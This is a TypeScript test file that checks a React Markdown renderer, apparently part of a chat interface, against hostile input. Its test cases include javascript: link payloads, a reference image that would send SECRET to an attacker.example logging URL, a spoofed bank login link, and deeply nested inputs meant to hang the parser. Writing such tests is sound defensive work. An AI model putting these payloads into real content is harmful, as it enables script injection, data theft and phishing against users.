/// <reference types="vite/client" />
import '../styles.css'
import { createFakeClient } from '@skep/testing/fake-client'
import type { ReactElement } from 'react'
import { flushSync } from 'react-dom'
import { createRoot, type Root } from 'react-dom/client'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { SkepProvider } from '../skep-provider.tsx'
import { Markdown } from './markdown.tsx'
import { MarkdownContext, type MarkdownEnvironment } from './markdown-context.ts'

interface Payload {
  readonly id: string
  readonly expect: 'inert' | 'no-fetch' | 'no-clobber' | 'safe-link' | 'no-hang'
  readonly input?: string
  readonly generate?: {
    readonly prefix?: string
    readonly unit: string
    readonly times: number
    readonly suffix?: string
  }
}

// The corpus lies beside the checkout; without it only the cases of our own run.
const corpora = import.meta.glob<{ readonly payloads: readonly Payload[] }>(
  '../../../../../shared/hostile/xss-markdown.json',
  { eager: true, import: 'default' },
)
const corpus = Object.values(corpora)[0]?.payloads ?? []

const own: readonly Payload[] = [
  { id: 'own-deep-quotes', expect: 'no-hang', generate: { unit: '> ', times: 20_000 } },
  { id: 'own-deep-lists', expect: 'no-hang', generate: { unit: '- ', times: 20_000, suffix: 'x' } },
  { id: 'own-deep-emphasis', expect: 'no-hang', generate: { unit: '*a **b ', times: 5000 } },
  { id: 'own-many-tags', expect: 'no-hang', generate: { unit: '<b>', times: 20_000 } },
  { id: 'own-many-links', expect: 'no-hang', generate: { unit: '[a](https://a.example) ', times: 3000 } },
  { id: 'own-entity-scheme', expect: 'inert', input: '[x](javascript&colon;window.__pwned=1)' },
  { id: 'own-autolink', expect: 'inert', input: '<javascript:window.__pwned=1>' },
  { id: 'own-blob', expect: 'inert', input: '[x](blob:https://attacker.example/1)' },
  { id: 'own-mailto', expect: 'safe-link', input: '[x](mailto:a@b.example?body=SECRET)' },
  {
    id: 'own-reference-image',
    expect: 'no-fetch',
    input: '![a][r]\n\n[r]: https://attacker.example/log?d=SECRET',
  },
]

let host: HTMLElement
let root: Root
const attempts: string[] = []
const client = createFakeClient()
const environment: MarkdownEnvironment = {
  allowedImageOrigins: [],
  citationNumbers: new Set([1]),
  onCitation: () => {},
  citationLabel: (number) => `Source ${number}`,
  copyCodeLabel: 'Copy code',
  imageLabel: (alt) => `Image: ${alt}`,
}

function Message({
  text,
  isStreaming,
}: {
  readonly text: string
  readonly isStreaming: boolean
}): ReactElement {
  return (
    <SkepProvider client={client} theme="light">
      <MarkdownContext.Provider value={environment}>
        <div data-message="">
          <Markdown text={text} isStreaming={isStreaming} cutNote="cut" />
        </div>
      </MarkdownContext.Provider>
    </SkepProvider>
  )
}

function draw(text: string, isStreaming = false): HTMLElement {
  flushSync(() => root.render(<Message text={text} isStreaming={isStreaming} />))
  const message = host.querySelector<HTMLElement>('[data-message]')
  if (!message) throw new Error('Nothing was drawn')
  return message
}

const inputOf = ({ input, generate }: Payload): string =>
  input ??
  `${generate?.prefix ?? ''}${(generate?.unit ?? '').repeat(generate?.times ?? 0)}${generate?.suffix ?? ''}`

/** Everything in the drawn message that breaks a rule of the corpus. */
function findings(message: HTMLElement): string[] {
  const found: string[] = []
  const forbidden =
    'script,iframe,object,embed,base,meta,link,style,svg:not(.lucide),math,form,input,textarea,audio,video'
  for (const element of message.querySelectorAll(forbidden)) found.push(`<${element.localName}>`)
  for (const element of message.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) found.push(`${name} attribute`)
      if (name === 'style') found.push('style attribute')
      if (name === 'id' || name === 'name') found.push(`${name}="${value}"`)
      if (name === 'src' || name === 'srcset') found.push(`${name}="${value}"`)
      if (
        ['href', 'action', 'xlink:href', 'formaction'].includes(name) &&
        !/^(https?:\/\/|mailto:)/.test(value)
      ) {
        found.push(`${name}="${value}"`)
      }
    }
  }
  for (const link of message.querySelectorAll('a')) {
    const host = link.protocol === 'mailto:' ? '' : link.hostname
    if (link.rel !== 'noopener noreferrer nofollow' || link.target !== '_blank')
      found.push('unprotected link')
    if (!link.title.includes(host)) found.push('hidden host')
    if (link.href.includes('SECRET') && link.protocol === 'mailto:') found.push('mail with a body')
    if (link.href.includes('password@')) found.push('credentials')
  }
  if ((window as { __pwned?: unknown }).__pwned !== undefined) found.push('code ran')
  return found
}

function touchEverything(message: HTMLElement): void {
  for (const element of [...message.querySelectorAll<HTMLElement>('*')].slice(0, 200)) {
    element.focus?.()
    element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))
    element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }))
  }
}

const stopNavigation = (event: Event): void => event.preventDefault()
const observer = new PerformanceObserver((list) => {
  for (const entry of list.getEntries()) if (entry.name.includes('attacker')) attempts.push(entry.name)
})

beforeEach(() => {
  host = document.createElement('div')
  document.body.append(host)
  root = createRoot(host)
  host.addEventListener('click', stopNavigation)
  attempts.length = 0
  observer.observe({ type: 'resource', buffered: false })
})

afterEach(() => {
  root.unmount()
  host.remove()
  observer.disconnect()
  delete (window as { __pwned?: unknown }).__pwned
})

describe.each([...own, ...corpus])('hostile text $id ($expect)', (payload) => {
  const input = inputOf(payload)

  it('is inert when it comes at once', async () => {
    const startMs = performance.now()
    const message = draw(input)
    const tookMs = performance.now() - startMs
    expect(findings(message)).toEqual([])
    touchEverything(message)
    await new Promise((resolve) => setTimeout(resolve, 0))
    expect(findings(message)).toEqual([])
    expect(attempts).toEqual([])
    expect(tookMs).toBeLessThan(30_000)
  })

  it('is inert after every character as it streams in', () => {
    const step = Math.max(1, Math.floor(input.length / 40))
    for (let end = 1; end < input.length; end += input.length > 400 ? step : 1) {
      expect({ end, found: findings(draw(input.slice(0, end), true)) }).toEqual({ end, found: [] })
    }
    expect(findings(draw(input))).toEqual([])
    expect(attempts).toEqual([])
  })
})

describe('Markdown', () => {
  it('shows the true host where the text of a link names another', () => {
    expect(draw('[https://bank.example/login](https://attacker.example/login)').textContent).toBe(
      'https://bank.example/login (attacker.example)',
    )
  })

  it('shows raw HTML as the text it is', () => {
    expect(draw('a <b onclick="x">bold</b> word').textContent).toBe('a <b onclick="x">bold</b> word')
  })

  it('draws citations as buttons only where such a source exists', () => {
    const message = draw('First [1], and [2].')
    expect(
      [...message.querySelectorAll('button')].map((button) => button.getAttribute('aria-label')),
    ).toEqual(['Source 1'])
    expect(message.textContent).toBe('First1, and [2].')
  })

  it('draws the same in the end, whether a text came at once or in pieces', () => {
    const text =
      '# A\n\ntext [r] *b*\n\n- one\n- two\n\n  more\n\n```js\ncode\n\nmore\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n> quote\n\n[r]: https://ok.example'
    for (let end = 1; end <= text.length; end++) draw(text.slice(0, end), true)
    const streamed = draw(text).innerHTML
    root.unmount()
    root = createRoot(host)
    expect(streamed).toBe(draw(text).innerHTML)
  })

  it('leaves finished blocks alone while more text comes', () => {
    const first = draw('first\n\nsecond\n\nthird\n\nfourth', true).querySelector('p')
    draw('first\n\nsecond\n\nthird\n\nfourth and more', true)
    expect(host.querySelector('p')).toBe(first)
  })
})
